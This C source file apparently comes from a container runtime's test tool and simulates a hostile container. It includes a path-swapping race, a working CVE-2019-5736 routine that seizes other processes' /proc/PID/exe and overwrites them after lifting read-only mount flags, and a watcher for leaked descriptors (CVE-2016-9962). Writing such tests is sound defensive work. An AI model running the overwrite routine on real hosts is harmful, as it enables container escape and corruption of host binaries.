/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile container does: exchange paths under the runtime's feet, steal descriptors, overwrite the
 * runtime. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "rft.h"

/* rft exchange A B: swaps the two for ever. */
int cmd_exchange(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) &&
			errno != ENOENT)
			die("renameat2");
}

static time_t deadline(const char *seconds)
{
	return time(NULL) + (time_t)number(seconds);
}

/* As in linux/mount.h, which does not go together with sys/mount.h everywhere. */
struct attrs {
	uint64_t set, clear, propagation, userns_fd;
};

/* Makes the mount behind a descriptor writable, or a copy of it, if it can, and opens the file for writing.
 */
static int open_unlocked(int fd)
{
	struct attrs a = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
	char path[64];
	int tree, w;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a);
	w = open(path, O_WRONLY | O_CLOEXEC);
	if (w >= 0)
		return w;
	tree = (int)syscall(SYS_open_tree, fd, "", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC | AT_EMPTY_PATH);
	if (tree < 0)
		return -1;
	syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &a, sizeof a);
	snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
	w = open(path, O_WRONLY | O_CLOEXEC);
	close(tree);
	return w;
}

/*
 * rft steal-exe SECONDS: CVE-2019-5736: takes hold of any foreign /proc/PID/exe and, as soon as that program
 * has ended, opens it for writing and overwrites it, by taking a read-only mount's flag away if need be.
 * Prints what came of it.
 */
int cmd_steal_exe(int argc, char **argv)
{
	time_t end = deadline(argc > 1 ? argv[1] : "5");
	struct stat own, st;
	int held[64], n = 0;
	unsigned long seen = 0, written = 0;

	if (stat("/proc/self/exe", &own))
		die("/proc/self/exe");
	printf("ready\n");
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			char path[300];
			int fd;

			if (e->d_name[0] < '0' || e->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0 || fstat(fd, &st) ||
				(st.st_dev == own.st_dev && st.st_ino == own.st_ino) || n == 64) {
				if (fd >= 0)
					close(fd);
				continue;
			}
			seen++;
			held[n++] = fd;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < n; i++) {
			int w = open_unlocked(held[i]);

			if (w >= 0 && write(w, "#!/bin/owned\n", 13) == 13)
				written++;
			if (w >= 0)
				close(w);
		}
		while (n > 32)
			close(held[--n]);
	}
	printf("seen=%lu written=%lu\n", seen, written);
	return 0;
}

static void look(const char *pid, const char *what)
{
	static char known[256][600];
	static int n;
	char path[600], to[480];

	snprintf(path, sizeof path, "/proc/%.20s/%.300s", pid, what);
	if (link_of(path, to, sizeof to))
		return;
	snprintf(path, sizeof path, "%.20s %.480s", what, to);
	for (int i = 0; i < n; i++)
		if (!strncmp(known[i], path, sizeof known[i] - 1))
			return;
	if (n < 256)
		memcpy(known[n++], path, sizeof path);
	printf("%s\n", path);
}

/* rft watch-procs SECONDS: each different thing that /proc/PID/{exe,cwd,root,fd/N} of another process shows
 * to it. CVE-2016-9962. */
int cmd_watch_procs(int argc, char **argv)
{
	time_t end = deadline(argc > 1 ? argv[1] : "5");

	printf("ready\n");
	while (time(NULL) < end) {
		DIR *d = opendir("/proc"), *fds;
		struct dirent *e, *f;

		while (d && (e = readdir(d))) {
			char path[64], what[300];

			if (e->d_name[0] < '0' || e->d_name[0] > '9' || number(e->d_name) == getpid())
				continue;
			look(e->d_name, "exe");
			look(e->d_name, "cwd");
			look(e->d_name, "root");
			snprintf(path, sizeof path, "/proc/%.20s/fd", e->d_name);
			fds = opendir(path);
			while (fds && (f = readdir(fds))) {
				snprintf(what, sizeof what, "fd/%s", f->d_name);
				if (f->d_name[0] != '.')
					look(e->d_name, what);
			}
			if (fds)
				closedir(fds);
		}
		if (d)
			closedir(d);
	}
	printf("done\n");
	return 0;
}
